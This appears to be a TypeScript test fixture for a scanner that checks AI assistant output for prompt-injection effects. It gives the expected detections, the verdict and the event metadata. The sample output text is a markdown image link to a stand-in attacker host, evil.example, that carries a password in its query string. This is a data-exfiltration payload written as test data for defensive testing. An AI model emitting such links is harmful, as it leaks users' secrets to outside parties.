import type { EventOptions } from '../../src/events/index.js';
import { checkOutput } from '../../src/output/index.js';
import type { Detection, ScanResult } from '../../src/types.js';

export const text = 'Here: ![x](https://evil.example/?d=hunter2pass)';
export const detections: Detection[] = [
  ...checkOutput(text),
  {
    id: 'PI-014',
    title: 'Asks for a secret',
    severity: 'medium',
    confidence: 0.7,
    tags: { atlas: ['AML.T0057'], owasp: ['LLM02:2026'] },
    matched: 'U2hvdw',
    span: { start: 0, end: 6 },
    view: 'decoded',
    decoded: 'Show',
    mention: 'quoted',
    terms: [{ term: 'show', weight: 1 }],
  },
];
export const result: ScanResult = {
  verdict: 'malicious',
  score: 65,
  detections,
  scope: 'output',
  inputLength: text.length,
  notes: [],
};
export const options: EventOptions = {
  text,
  time: new Date(Date.UTC(2026, 0, 2, 3, 4, 5, 678)),
  source: 'assistant',
  scannerVersion: '1.2.3',
  rulesetSize: 21,
};
export const full: EventOptions = {
  ...options,
  user: 'jane',
  sessionId: 's-1',
  contentType: 'email',
  contentId: 'mail/7',
};
